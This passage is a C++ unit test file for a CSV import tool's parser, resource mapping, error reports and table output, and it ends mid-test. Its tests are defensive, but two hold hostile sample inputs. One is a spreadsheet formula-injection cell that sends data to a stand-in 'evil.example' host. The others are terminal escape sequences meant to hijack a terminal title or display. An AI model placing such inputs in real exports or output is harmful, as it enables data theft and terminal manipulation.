// impctl's CSV reader/writer, CSV <-> resource mapping, import report, tables and progress,
// without a network.
#include <google/protobuf/struct.pb.h>
#include <google/protobuf/util/json_util.h>

#include <cstdio>
#include <fstream>
#include <sstream>

#include "absl/strings/match.h"
#include "common/api/errors.h"
#include "common/status.h"
#include "gtest/gtest.h"
#include "tools/impctl/client.h"
#include "tools/impctl/csv.h"
#include "tools/impctl/import.h"
#include "tools/impctl/import_report.h"
#include "tools/impctl/kind.h"
#include "tools/impctl/mapping.h"
#include "tools/impctl/progress.h"
#include "tools/impctl/table.h"

namespace imp::impctl {
namespace {

namespace reg = registry::v1;
namespace act = activity::v1;

std::string ReadDemo(const std::string& name) {
  const char* src = std::getenv("IMP_SOURCE_DIR");
  std::ifstream in(std::string(src != nullptr ? src : IMP_SOURCE_DIR_DEFAULT) + "/deploy/demo/" +
                   name);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

// The report lines an import prints for the records of `csv` that do not map, as
// ImportActivityRows builds them.
std::vector<std::string> ActivityMappingErrors(const std::string& csv) {
  auto table = ParseCsv(csv);
  EXPECT_TRUE(table.ok()) << table.status();
  std::vector<std::string> lines;
  if (!table.ok()) return lines;
  for (const auto& rec : table->records) {
    auto row = ActivityFromCsv(rec.fields);
    if (!row.ok()) lines.push_back(FormatRowError(RowErrorFromStatus(rec.line, row.status())));
  }
  return lines;
}

std::string JoinedActivityColumns() {
  std::string header;
  for (const auto& c : kActivityColumns) header += (header.empty() ? "" : ",") + c;
  return header + "\n";
}

// --- CSV ------------------------------------------------------------------------------------

TEST(Csv, QuotesCommasNewlinesAndCrlf) {
  auto table = ParseCsv("a,b,c\r\n1,\"x, \"\"y\"\"\",\"two\nlines\"\r\n\n4,,6\n");
  ASSERT_TRUE(table.ok()) << table.status();
  ASSERT_EQ(table->records.size(), 2u);
  EXPECT_EQ(table->records[0].fields[1], "x, \"y\"");
  EXPECT_EQ(table->records[0].fields[2], "two\nlines");
  EXPECT_EQ(table->records[0].line, 2);
  EXPECT_EQ(table->records[1].line, 5) << "line numbers count physical lines";
  EXPECT_EQ(table->records[1].fields[1], "");
  EXPECT_EQ(FormatCsvRecord(table->records[0].fields), "1,\"x, \"\"y\"\"\",\"two\nlines\"\n");
}

TEST(Csv, LastRecordWithoutLineEndAndEmptyTrailingField) {
  auto table = ParseCsv("a,b\n1,");
  ASSERT_TRUE(table.ok()) << table.status();
  ASSERT_EQ(table->records.size(), 1u);
  EXPECT_EQ(table->records[0].fields, (std::vector<std::string>{"1", ""}));
}

TEST(Csv, SkipsAByteOrderMarkAndKeepsUtf8) {
  auto table = ParseCsv("\xEF\xBB\xBFid,local_name\nmoz,\"Міністерство охорони здоров'я\"\n");
  ASSERT_TRUE(table.ok()) << table.status();
  EXPECT_EQ(table->header[0], "id");
  EXPECT_EQ(table->records[0].fields[1], "Міністерство охорони здоров'я");
}

TEST(Csv, MalformedRecordsNameTheLine) {
  EXPECT_NE(ParseCsv("a,b\n1,2\n3\n").status().message().find("line 3"), std::string::npos);
  EXPECT_NE(ParseCsv("a,b\n1,\"open\n").status().message().find("line 2: unterminated"),
            std::string::npos);
  EXPECT_NE(ParseCsv("a,b\n1,x\"y\n").status().message().find("line 2: a quote"),
            std::string::npos);
  EXPECT_FALSE(ParseCsv("").ok());
}

TEST(Csv, WriterOutputParsesBackToTheSameFields) {
  const std::vector<std::string> fields = {
      "plain", "comma, inside", "quote \" inside", "line\nbreak", "", "Львів|Lviv", "crlf\r\nend"};
  const std::string text =
      FormatCsvRecord({"1", "2", "3", "4", "5", "6", "7"}) + FormatCsvRecord(fields);
  auto table = ParseCsv(text);
  ASSERT_TRUE(table.ok()) << table.status();
  ASSERT_EQ(table->records.size(), 1u);
  EXPECT_EQ(table->records[0].fields, fields);
}

// Found by csv_fuzz: a one-column record whose cell is empty was written as a blank line, which
// every reader (this one included) skips, so the record vanished.
TEST(Csv, AOneColumnRecordWithAnEmptyCellSurvivesTheWriter) {
  auto table = ParseCsv(FormatCsvRecord({"note"}) + FormatCsvRecord({""}) + FormatCsvRecord({"x"}));
  ASSERT_TRUE(table.ok()) << table.status();
  ASSERT_EQ(table->records.size(), 2u);
  EXPECT_EQ(table->records[0].fields, std::vector<std::string>{""});
  EXPECT_EQ(table->records[0].line, 2);
}

// Found by csv_fuzz: a first cell starting with U+FEFF was written bare, and read back as a
// byte-order mark (dropped).
TEST(Csv, AFirstCellStartingWithAByteOrderMarkSurvivesTheWriter) {
  const std::string cell = "\xEF\xBB\xBFid";
  auto table = ParseCsv(FormatCsvRecord({cell, "b"}) + FormatCsvRecord({"1", "2"}));
  ASSERT_TRUE(table.ok()) << table.status();
  EXPECT_EQ(table->header, (std::vector<std::string>{cell, "b"}));
}

// Found by csv_fuzz: a file in another encoding (a Windows-1251 export) was read as it was, and
// its rows became requests that gRPC cannot deliver (a proto3 string must be UTF-8), refused as
// a whole without a line. Now the file is refused at its first such line.
TEST(Csv, TextThatIsNotUtf8IsRefusedNamingItsLineAndColumn) {
  auto table = ParseCsv("id,city\nkyiv,Kyiv\nlviv,\xCB\xFC\xE2\xB3\xE2\n");
  ASSERT_FALSE(table.ok());
  EXPECT_EQ(table.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(table.status().message().rfind("line 3: city: is not UTF-8", 0), 0u)
      << table.status().message();
  EXPECT_FALSE(ParseCsv("\xFF\xFEid\n").ok()) << "the header too (a UTF-16 byte-order mark)";
  EXPECT_TRUE(ParseCsv("id,city\nlviv,\xD0\x9B\xD1\x8C\xD0\xB2\xD1\x96\xD0\xB2\n").ok());
}

// --- Mapping --------------------------------------------------------------------------------

// Every demo file maps to resources and back to the same cells.
TEST(Mapping, DemoFilesRoundTrip) {
  auto institutions = ParseCsv(ReadDemo("institutions.csv"));
  ASSERT_TRUE(institutions.ok());
  ASSERT_TRUE(CheckHeader(institutions->header, kInstitutionColumns).ok());
  ASSERT_FALSE(institutions->records.empty());
  for (const auto& rec : institutions->records) {
    auto row = InstitutionFromCsv(rec.fields);
    ASSERT_TRUE(row.ok()) << "line " << rec.line << ": " << row.status();
    row->institution.set_name("institutions/" + row->id);
    EXPECT_EQ(InstitutionToCsv(row->institution), rec.fields) << "line " << rec.line;
  }
  auto agreements = ParseCsv(ReadDemo("agreements.csv"));
  ASSERT_TRUE(agreements.ok());
  ASSERT_TRUE(CheckHeader(agreements->header, kAgreementColumns).ok());
  ASSERT_FALSE(agreements->records.empty());
  for (const auto& rec : agreements->records) {
    auto row = AgreementFromCsv(rec.fields);
    ASSERT_TRUE(row.ok()) << "line " << rec.line << ": " << row.status();
    row->agreement.set_name("agreements/" + row->id);
    row->agreement.set_state(row->target_state);
    EXPECT_EQ(AgreementToCsv(row->agreement), rec.fields) << "line " << rec.line;
  }
  auto activities = ParseCsv(ReadDemo("activities.csv"));
  ASSERT_TRUE(activities.ok());
  ASSERT_TRUE(CheckHeader(activities->header, kActivityColumns).ok());
  ASSERT_FALSE(activities->records.empty());
  for (const auto& rec : activities->records) {
    auto row = ActivityFromCsv(rec.fields);
    ASSERT_TRUE(row.ok()) << "line " << rec.line << ": " << row.status();
    row->activity.set_name("activities/" + row->id);
    // kind is output only: the service derives it from the details, as done here.
    row->activity.set_kind(static_cast<act::Activity::Kind>(
        act::Activity::Kind_descriptor()->FindValueByName("KIND_" + rec.fields[1])->number()));
    EXPECT_EQ(ActivityToCsv(row->activity), rec.fields) << "line " << rec.line;
  }
}

TEST(Mapping, EnumsTakeTheBareValueAndMapToTheFullOne) {
  auto row = ActivityFromCsv(ParseCsv(ReadDemo("activities.csv"))->records[1].fields);
  ASSERT_TRUE(row.ok()) << row.status();
  const act::Activity& a = row->activity;
  EXPECT_EQ(a.agreement(), "agreements/moh-ua-french-health-association-2023");
  EXPECT_EQ(a.host_institution(), "institutions/moh-ukraine");
  EXPECT_EQ(a.direction(), act::Activity::DIRECTION_TO_UKRAINE);
  ASSERT_TRUE(a.has_event());
  EXPECT_EQ(a.event().type(), act::EventDetails::TYPE_SEMINAR);
  ASSERT_EQ(a.event().participant_groups_size(), 3);
  EXPECT_EQ(a.event().participant_groups(1).institution(), "institutions/borodianka-crh");
  EXPECT_EQ(a.event().participant_groups(1).profession(),
            act::ParticipantGroup::PROFESSION_OTHER_HEALTH_WORKER);
  EXPECT_EQ(a.event().participant_groups(1).headcount(), 7);

  std::vector<std::string> inst = {"x",  "X", "", "A|B", "university_hospital",
                                   "FR", "",  "", "",    ""};
  auto institution = InstitutionFromCsv(inst);
  ASSERT_TRUE(institution.ok()) << institution.status();
  EXPECT_EQ(institution->institution.kind(), reg::Institution::KIND_UNIVERSITY_HOSPITAL);
  EXPECT_EQ(institution->institution.short_names_size(), 2);
  inst[4] = "KIND_NGO";  // the full proto name is accepted too
  EXPECT_EQ(InstitutionFromCsv(inst)->institution.kind(), reg::Institution::KIND_NGO);
}

TEST(Mapping, AgreementStatesAreCreatedAsTheApiAllows) {
  std::vector<std::string> f = {"a",
                                "T",
                                "TWINNING_MEMORANDUM",
                                "SUSPENDED",
                                "x:UKRAINIAN_PARTNER|y:FOREIGN_PARTNER",
                                "2024-01-31",
                                "",
                                "",
                                "",
                                "oncology",
                                "EDUCATIONAL_EVENTS|JOINT_PUBLICATIONS",
                                "GIZ",
                                "",
                                ""};
  auto row = AgreementFromCsv(f);
  ASSERT_TRUE(row.ok()) << row.status();
  EXPECT_EQ(row->agreement.state(), reg::Agreement::STATE_ACTIVE);
  EXPECT_EQ(row->target_state, reg::Agreement::STATE_SUSPENDED);
  EXPECT_EQ(row->agreement.parties(1).role(), reg::Party::ROLE_FOREIGN_PARTNER);
  EXPECT_EQ(row->agreement.cooperation_forms(1), reg::COOPERATION_FORM_JOINT_PUBLICATIONS);
  EXPECT_EQ(row->agreement.signed_on().day(), 31);

  f[3] = "TERMINATED";
  f[5] = "";  // never signed: an abandoned proposal
  row = AgreementFromCsv(f);
  ASSERT_TRUE(row.ok()) << row.status();
  EXPECT_EQ(row->agreement.state(), reg::Agreement::STATE_PROPOSED);
  EXPECT_EQ(row->target_state, reg::Agreement::STATE_TERMINATED);

  f[3] = "";
  row = AgreementFromCsv(f);
  ASSERT_TRUE(row.ok()) << row.status();
  EXPECT_EQ(row->target_state, reg::Agreement::STATE_PROPOSED) << "empty state means PROPOSED";
}

TEST(Mapping, BadCellsNameTheColumn) {
  std::vector<std::string> inst = {"x", "X", "", "", "CASTLE", "FR", "", "", "", ""};
  auto bad_kind = InstitutionFromCsv(inst);
  EXPECT_EQ(bad_kind.status().message().rfind("kind: 'CASTLE' is not one of HOSPITAL", 0), 0u)
      << bad_kind.status();

  std::vector<std::string> agreement = {
      "a", "T", "TWINNING_MEMORANDUM", "ACTIVE", "x:PARTNER", "2024-01-01", "", "", "", "", "", "",
      "",  ""};
  EXPECT_EQ(AgreementFromCsv(agreement).status().message().rfind("parties: 'PARTNER'", 0), 0u);
  agreement[4] = "x:UKRAINIAN_PARTNER";
  agreement[5] = "01/01/2024";
  EXPECT_EQ(AgreementFromCsv(agreement).status().message().rfind("signed_on:", 0), 0u);
  agreement[5] = "2024-02-30";  // the right shape, not a real day
  EXPECT_EQ(AgreementFromCsv(agreement).status().message().rfind("signed_on: 2024-02-30", 0), 0u);
  agreement[5] = "2024-01-01";
  agreement[3] = "SIGNED";
  EXPECT_EQ(AgreementFromCsv(agreement).status().message().rfind("state: 'SIGNED'", 0), 0u);
  agreement[3] = "ACTIVE";
  agreement[10] = "PICNICS";
  EXPECT_EQ(AgreementFromCsv(agreement).status().message().rfind("cooperation_forms:", 0), 0u);

  std::vector<std::string> a(kActivityColumns.size());
  a[1] = "TRAINING";
  a[14] = "INTERNSHIP";
  a[15] = "lviv:DOCTOR";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("participants:", 0), 0u);
  a[15] = "lviv:SURGEON:3";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("participants: 'SURGEON'", 0), 0u);
  a[15] = "lviv:DOCTOR:three";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("participants: 'three'", 0), 0u);
  a[15] = ":DOCTOR:3";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("participants: ':DOCTOR:3' has no", 0), 0u);
  a[15] = "lviv:DOCTOR:3";
  a[16] = "ten";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("hours: 'ten'", 0), 0u);
  a[16] = "";
  a[17] = "5";  // operations belong to OPERATION rows
  EXPECT_EQ(ActivityFromCsv(a).status().message(),
            "operations: must be empty for a TRAINING activity");
  a[17] = "";
  a[14] = "SEMINAR";  // an event type, not a training format
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("format_or_type: 'SEMINAR'", 0), 0u);
  a[14] = "INTERNSHIP";
  a[11] = "SIDEWAYS";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("direction: 'SIDEWAYS'", 0), 0u);
  a[11] = "";
  a[1] = "PICNIC";
  EXPECT_EQ(ActivityFromCsv(a).status().message().rfind("kind: 'PICNIC'", 0), 0u);
  EXPECT_FALSE(ActivityFromCsv({"too", "few"}).ok());
}

// A file with bad rows reports each with its CSV line, even after a record spanning lines.
TEST(Mapping, BadRowsAreReportedWithTheirLine) {
  auto demo = ParseCsv(ReadDemo("activities.csv"));
  ASSERT_TRUE(demo.ok());
  std::vector<std::string> good = demo->records[0].fields;  // a VISIT
  good[13] = "notes over\ntwo lines";
  std::vector<std::string> bad_date = good, bad_enum = good,
                           bad_participants = demo->records[1].fields;
  bad_date[6] = "2024-13-40";
  bad_enum[11] = "UPWARDS";
  bad_participants[15] = "okhmatdyt:DOCTOR:5|okhmatdyt:NURSE";
  const std::string csv = JoinedActivityColumns() + FormatCsvRecord(good) +  // lines 2-3
                          FormatCsvRecord(bad_date) +                        // lines 4-5
                          FormatCsvRecord(bad_enum) +                        // lines 6-7
                          FormatCsvRecord(bad_participants);                 // line 8
  const std::vector<std::string> expected = {
      "line 4: start_date: 2024-13-40 is not a complete calendar date between 1900 and 2200",
      "line 6: direction: 'UPWARDS' is not one of TO_UKRAINE, FROM_UKRAINE, WITHIN_UKRAINE, "
      "REMOTE",
      "line 8: participants: 'okhmatdyt:NURSE' is not institution_id:PROFESSION:headcount"};
  EXPECT_EQ(ActivityMappingErrors(csv), expected);
}

TEST(Mapping, HeaderErrorsNameTheColumns) {
  std::vector<std::string> header = kInstitutionColumns;
  EXPECT_TRUE(CheckHeader(header, kInstitutionColumns).ok());
  header[4] = "type";
  const std::string message(CheckHeader(header, kInstitutionColumns).message());
  EXPECT_EQ(message.rfind("line 1: missing kind; unexpected type;", 0), 0u) << message;
  std::swap(header[4], header[5]);
  header[5] = "kind";
  EXPECT_NE(CheckHeader(header, kInstitutionColumns).message().find("another order"),
            std::string::npos);
}

// --- Import report --------------------------------------------------------------------------

TEST(ImportReport, SplitsFieldFromReason) {
  RowError e = RowErrorFromStatus(
      7, absl::InvalidArgumentError("institution.country: 'XX' is not an ISO 3166-1 code"));
  EXPECT_EQ(e.line, 7);
  EXPECT_EQ(e.field, "institution.country");
  EXPECT_EQ(e.reason, "'XX' is not an ISO 3166-1 code");
  EXPECT_EQ(FormatRowError(e), "line 7: institution.country: 'XX' is not an ISO 3166-1 code");
  // A sentence with a colon in it has no field.
  e = RowErrorFromStatus(3, absl::FailedPreconditionError("agreement is not ACTIVE: it is X"));
  EXPECT_EQ(e.field, "");
  EXPECT_EQ(e.code, absl::StatusCode::kFailedPrecondition);
  EXPECT_EQ(FormatRowError(e), "line 3: agreement is not ACTIVE: it is X");
}

TEST(ImportReport, RowErrorsComeFromTheServicesDetails) {
  // A reference problem as the activity service reports it, through the wire.
  RowError e = RowErrorFromStatus(
      4, FromGrpcStatus(ToGrpcStatus(api::InvalidReference(
             "activity.agreement", "agreements/x", "is not ACTIVE; activities need ACTIVE"))));
  EXPECT_EQ(e.field, "activity.agreement");
  EXPECT_EQ(e.reason, "agreements/x is not ACTIVE; activities need ACTIVE");
  EXPECT_EQ(e.error_reason, "REFERENCE_INVALID");
  // The field is the details' even when the message is in another form.
  absl::Status details = api::InvalidField("institution.website", "must start with https://");
  absl::Status reworded(details.code(), "The website must start with https://");
  details.ForEachPayload(
      [&](absl::string_view url, const absl::Cord& p) { reworded.SetPayload(url, p); });
  e = RowErrorFromStatus(5, reworded);
  EXPECT_EQ(e.field, "institution.website");
  EXPECT_EQ(e.reason, "must start with https://");
  EXPECT_EQ(e.error_reason, "FIELD_INVALID");
  // ALREADY_EXISTS names its field in ErrorInfo; the reason is the rest of the message.
  e = RowErrorFromStatus(6, api::ResourceExists("", "institutions/x", "institution_id"));
  EXPECT_EQ(e.field, "institution_id");
  EXPECT_EQ(e.reason, "institutions/x already exists");
  EXPECT_EQ(e.error_reason, "RESOURCE_EXISTS");
}

TEST(ImportReport, SummaryLinesAndErrorsCsv) {
  ImportReport r;
  r.kind = "activities";
  r.rows = 91;
  r.imported = 91;
  EXPECT_EQ(SummaryLine(r), "imported 91 of 91 rows (0 failed)");
  r.imported = 30;
  r.existing = 3;
  r.errors = {{9, absl::StatusCode::kInvalidArgument, "kind", "bad", ""},
              {4, absl::StatusCode::kInvalidArgument, "", "a, \"quoted\" reason", ""}};
  EXPECT_EQ(SummaryLine(r), "imported 30 of 91 rows (2 failed, 3 already there)");
  r.unlisted_failures = 5;
  EXPECT_EQ(SummaryLine(r), "imported 30 of 91 rows (7 failed, 3 already there)");
  r.unlisted_failures = 0;
  r.validate_only = true;
  EXPECT_EQ(SummaryLine(r), "validated 91 rows (2 failed, 3 already there); nothing was applied");
  r.validate_only = false;
  r.stopped = true;
  EXPECT_EQ(SummaryLine(r),
            "import stopped early: 30 of 91 rows imported (2 failed, 3 already there)");

  r.SortErrors();
  EXPECT_EQ(r.errors[0].line, 4);
  auto csv = ParseCsv(ErrorsCsv(r.errors));
  ASSERT_TRUE(csv.ok()) << csv.status();
  EXPECT_EQ(csv->header, (std::vector<std::string>{"line", "field", "reason"}));
  ASSERT_EQ(csv->records.size(), 2u);
  EXPECT_EQ(csv->records[0].fields, (std::vector<std::string>{"4", "", "a, \"quoted\" reason"}));
  EXPECT_EQ(csv->records[1].fields, (std::vector<std::string>{"9", "kind", "bad"}));

  google::protobuf::Struct doc;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(ReportJson(r), &doc).ok());
  EXPECT_EQ(doc.fields().at("imported").number_value(), 30);
  EXPECT_EQ(doc.fields().at("failed").number_value(), 2);
  EXPECT_EQ(doc.fields()
                .at("errors")
                .list_value()
                .values(1)
                .struct_value()
                .fields()
                .at("field")
                .string_value(),
            "kind");
}

TEST(ImportReport, ExitCodes) {
  EXPECT_EQ(ExitCodeForRowErrors({}), kExitOk);
  EXPECT_EQ(ExitCodeForRowErrors({{2, absl::StatusCode::kInvalidArgument, "", "", ""}}),
            kExitInvalid);
  EXPECT_EQ(ExitCodeForRowErrors({{2, absl::StatusCode::kPermissionDenied, "", "", ""},
                                  {3, absl::StatusCode::kPermissionDenied, "", "", ""}}),
            kExitDenied);
  EXPECT_EQ(ExitCodeForRowErrors({{2, absl::StatusCode::kAlreadyExists, "", "", ""}}),
            kExitConflict);
  EXPECT_EQ(ExitCodeForRowErrors({{2, absl::StatusCode::kAlreadyExists, "", "", ""},
                                  {3, absl::StatusCode::kInvalidArgument, "", "", ""}}),
            kExitInvalid);
}

TEST(ImportReport, AlreadyThereOnlyWhenTheDetailsNameTheRowsOwnResource) {
  const std::string type = "type.googleapis.com/imp.registry.v1.Institution";
  EXPECT_TRUE(IsTheRowItself(api::ResourceExists(type, "institutions/okhmatdyt", "institution_id"),
                             "institutions/okhmatdyt"));
  const absl::Status same_name =
      api::ResourceExists(type, "institutions/okhmatdyt", "institution",
                          "'Okhmatdyt' in UA already exists as institutions/okhmatdyt");
  EXPECT_TRUE(IsTheRowItself(FromGrpcStatus(ToGrpcStatus(same_name)), "institutions/okhmatdyt"));
  // Another institution holds the name: the row's own id was never created.
  EXPECT_FALSE(IsTheRowItself(same_name, "institutions/okhmatdyt-2"));
  EXPECT_FALSE(
      IsTheRowItself(api::ResourceExists(type, "institutions/okhmatdyt-2", "institution_id"),
                     "institutions/okhmatdyt"));
  // The request id created another resource: not this row.
  EXPECT_FALSE(
      IsTheRowItself(api::RequestIdReused("already used", "institutions/a"), "institutions/b"));
  // Message text alone is not read: without details nothing is "already there".
  EXPECT_FALSE(IsTheRowItself(
      absl::AlreadyExistsError("institution_id: institutions/okhmatdyt already exists"),
      "institutions/okhmatdyt"));
  EXPECT_TRUE(IsTheRowItself(absl::AlreadyExistsError("anything"), "")) << "no id in the row";
  EXPECT_FALSE(IsTheRowItself(absl::InvalidArgumentError("institutions/x"), "institutions/x"));
}

TEST(ExitCodes, ReasonsRefineTheCode) {
  EXPECT_EQ(ExitCodeFor(api::WithReason(absl::AbortedError("etag: stale"), "ETAG_MISMATCH")),
            kExitConflict);
  // A transaction that kept colliding: retry later, nothing to re-read.
  EXPECT_EQ(ExitCodeFor(WithDerivedDetails(absl::AbortedError("concurrent modification"))),
            kExitUnavailable);
  EXPECT_EQ(ExitCodeFor(api::RequestIdReused("already used", "institutions/a")), kExitConflict);
  EXPECT_EQ(ExitCodeFor(api::InvalidField("x", "y")), kExitInvalid);
  EXPECT_EQ(ExitCodeFor(absl::AbortedError("no details")), kExitConflict);
}

TEST(ErrorOutput, DetailLinesShowTheFieldsTheResourceAndTheReason) {
  const absl::Status s = FromGrpcStatus(ToGrpcStatus(api::ResourceNotFound(
      "type.googleapis.com/imp.registry.v1.Institution", "institutions/zzz", "names[2]")));
  EXPECT_EQ(DetailLines(s), (std::vector<std::string>{
                                "field names[2]: institutions/zzz not found",
                                "resource institutions/zzz (not found)",
                                "reason RESOURCE_NOT_FOUND",
                            }));
  const absl::Status ref =
      api::InvalidReference("activity.agreement", "agreements/x", "is deleted");
  EXPECT_EQ(DetailLines(ref)[0],
            "precondition REFERENCE activity.agreement: agreements/x is deleted");
}

TEST(ExitCodes, EveryGrpcCodeHasItsDocumentedExitCode) {
  using C = grpc::StatusCode;
  EXPECT_EQ(ExitCodeFor(C::OK), 0);
  EXPECT_EQ(ExitCodeFor(C::INVALID_ARGUMENT), 4);
  EXPECT_EQ(ExitCodeFor(C::FAILED_PRECONDITION), 4);
  EXPECT_EQ(ExitCodeFor(C::OUT_OF_RANGE), 4);
  EXPECT_EQ(ExitCodeFor(C::NOT_FOUND), 5);
  EXPECT_EQ(ExitCodeFor(C::ALREADY_EXISTS), 6);
  EXPECT_EQ(ExitCodeFor(C::ABORTED), 6);
  EXPECT_EQ(ExitCodeFor(C::UNAUTHENTICATED), 7);
  EXPECT_EQ(ExitCodeFor(C::PERMISSION_DENIED), 7);
  EXPECT_EQ(ExitCodeFor(C::UNAVAILABLE), 8);
  EXPECT_EQ(ExitCodeFor(C::DEADLINE_EXCEEDED), 8);
  EXPECT_EQ(ExitCodeFor(C::RESOURCE_EXHAUSTED), 8);
  EXPECT_EQ(ExitCodeFor(C::INTERNAL), 1);
  EXPECT_EQ(ExitCodeFor(C::UNIMPLEMENTED), 1);
}

// --- Tables, progress, names ----------------------------------------------------------------

TEST(Table, AlignsByCharactersNotBytes) {
  Table t({"ID", "NAME", "N"}, {false, false, true});
  t.AddRow({"lviv", "Львів", "7"});
  t.AddRow({"kyiv-city", "Kyiv", "12"});
  EXPECT_EQ(t.Render(),
            "ID         NAME    N\n"
            "---------  -----  --\n"
            "lviv       Львів   7\n"
            "kyiv-city  Kyiv   12\n");
}

TEST(Table, CutsLongCellsAtACharacterAndFlattensLineBreaks) {
  Table t({"A"});
  t.AddRow({"Охматдит\nхоспіс"});
  EXPECT_EQ(t.Render("", 8), "A\n--------\nОхмат...\n");
  EXPECT_EQ(Utf8Width("Львів"), 5);
  EXPECT_EQ(Utf8Prefix("Львів", 2), "Ль");
  Table plain({"", ""}, {false, true});
  plain.AddRow({"x", "1"});
  EXPECT_EQ(plain.Render("  "), "  x  1\n") << "no header line when the header is empty";
}

TEST(Table, ShowsControlCharactersAsEscapesSoStoredTextCannotDriveTheTerminal) {
  Table t({"TITLE"});
  t.AddRow({"red \x1b[31mtext\x1b[0m"});
  t.AddRow({"title \x1b]0;owned\x07 bell"});
  t.AddRow(
      {"moc.\xe2\x80\xaelive \xc2\x9b"
       "2J \x7f"});
  t.AddRow({"stray \xff byte\tand tab"});
  const std::string shown = t.Render("", 80);
  EXPECT_EQ(shown.find('\x1b'), std::string::npos) << shown;
  EXPECT_EQ(shown.find('\x07'), std::string::npos) << shown;
  EXPECT_TRUE(absl::StrContains(shown, "red \\x1B[31mtext\\x1B[0m\n")) << shown;
  EXPECT_TRUE(absl::StrContains(shown, "title \\x1B]0;owned\\x07 bell\n")) << shown;
  EXPECT_TRUE(absl::StrContains(shown, "moc.\\u202Elive \\u009B2J \\x7F\n")) << shown;
  EXPECT_TRUE(absl::StrContains(shown, "stray \\xFF byte and tab\n")) << shown;
}

TEST(Csv, SpreadsheetSafeCellsCannotRunAsFormulasAndReadBackAsTheyWere) {
  const std::vector<std::string> cells = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tindented",
      "\rreturn",
      "'=already",
      "''+twice",
      "'s-Hertogenbosch",
      "-12.5",
      "+7",
      "2024-04-01",
      "Kyiv",
      "",
      "-",
  };
  const std::vector<std::string> safe = SpreadsheetSafe(cells);
  EXPECT_EQ(safe, (std::vector<std::string>{
                      "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                      "'+1+1",
                      "'-2+3",
                      "'@SUM(A1)",
                      "'\tindented",
                      "'\rreturn",
                      "''=already",
                      "'''+twice",
                      "'s-Hertogenbosch",
                      "-12.5",
                      "+7",
                      "2024-04-01",
                      "Kyiv",
                      "",
                      "'-",
                  }));
  EXPECT_EQ(SpreadsheetPlain(safe), cells);
}

std::string Captured(std::FILE* f) {
  std::rewind(f);
  std::string out;
  for (int c; (c = std::fgetc(f)) != EOF;) out.push_back(static_cast<char>(c));
  return out;
}

TEST(Progress, PlainLinesWhenNotATerminal) {
  std::FILE* f = std::tmpfile();
  {
    Progress p("institutions", 20, false, f, absl::ZeroDuration());
    for (size_t i = 1; i <= 20; ++i) p.Update(i);
  }
  const std::string out = Captured(f);
  std::fclose(f);
  EXPECT_EQ(out.rfind("institutions: 2/20 rows (10%)\n", 0), 0u) << out;
  EXPECT_NE(out.find("institutions: 20/20 rows (100%)\n"), std::string::npos) << out;
  EXPECT_EQ(out.find('\r'), std::string::npos);
}

TEST(Progress, QuickWorkPrintsNothingWhenNotATerminal) {
  std::FILE* f = std::tmpfile();
  {
    Progress p("institutions", 3, false, f);  // default interval: nothing within 2 s
    for (size_t i = 1; i <= 3; ++i) p.Update(i);
  }
  EXPECT_EQ(Captured(f), "");
  std::fclose(f);
}

TEST(Progress, BarOnATerminal) {
  std::FILE* f = std::tmpfile();
  {
    Progress p("rows", 4, true, f);
    p.Update(2);
  }
  const std::string out = Captured(f);
  std::fclose(f);
  EXPECT_EQ(out, "\rrows [###############...............]  50% 2/4\n")
      << "an unfinished bar ends its line";
}

TEST(Kind, WordsAndNames) {
  Kind k;
  ASSERT_TRUE(ParseKind("activities", &k));
  EXPECT_EQ(FullName(k, "act-1"), "activities/act-1");
  ASSERT_TRUE(ParseKind("institution", &k));
  EXPECT_EQ(FullName(k, "institutions/okhmatdyt"), "institutions/okhmatdyt");
  EXPECT_FALSE(ParseKind("hospitals", &k));
}

// Found by csv_fuzz: mapping errors quoted the whole cell, so a 15 KB cell made a 15 KB line in
// the report (and in --errors_csv). They quote a short prefix, as the services do.
TEST(Mapping, ErrorsQuoteAShortPrefixOfTheCell) {
  std::vector<std::string> activity(kActivityColumns.size());
  activity[1] = "TRAINING";
  activity[14] = std::string(15000, 'F');
  std::vector<std::string> institution(kInstitutionColumns.size());
  institution[4] = std::string(15000, 'K');
  std::vector<std::string> agreement(kAgreementColumns.size());
  agreement[4] = std::string(15000, 'p');
  std::vector<std::string> groups = activity;
  groups[14] = "";
  groups[15] = "okhmatdyt:DOCTOR:" + std::string(15000, '9');
  for (const absl::Status& s :
       {ActivityFromCsv(activity).status(), InstitutionFromCsv(institution).status(),
        AgreementFromCsv(agreement).status(), ActivityFromCsv(groups).status(),
        CheckHeader({"id", std::string(15000, 'c')}, kInstitutionColumns)}) {
    EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument);
    EXPECT_LT(s.message().size(), 600u) << s.message().substr(0, 200);
    EXPECT_NE(s.message().find("(15000 bytes)"), std::string::npos) << s.message().substr(0, 200);
  }
}

// An activity import retried on UNAVAILABLE (import.h): pauses double from 1 s to a 16 s cap,
// and a longer RetryInfo delay from the server is honoured up to that cap.
TEST(ImportRetry, PausesDoubleFromOneSecondUpToSixteenAndHonourTheServersDelay) {
  EXPECT_EQ(ImportRetryPause(1, absl::ZeroDuration()), absl::Seconds(1));
  EXPECT_EQ(ImportRetryPause(2, absl::ZeroDuration()), absl::Seconds(2));
  EXPECT_EQ(ImportRetryPause(3, absl::ZeroDuration()), absl::Seconds(4));
  EXPECT_EQ(ImportRetryPause(5, absl::ZeroDuration()), absl::Seconds(16));
  EXPECT_EQ(ImportRetryPause(9, absl::ZeroDuration()), absl::Seconds(16));
  EXPECT_EQ(ImportRetryPause(1, absl::Seconds(3)), absl::Seconds(3));
  EXPECT_EQ(ImportRetryPause(1, absl::Minutes(5)), absl::Seconds(16));
  absl::Duration all = absl::ZeroDuration();
  for (int failed = 1; failed < kImportAttempts; ++failed) {
    all += ImportRetryPause(failed, absl::ZeroDuration());
  }
  EXPECT_EQ(all, absl::Seconds(31)) << "the pauses of a whole run, as import.h says";

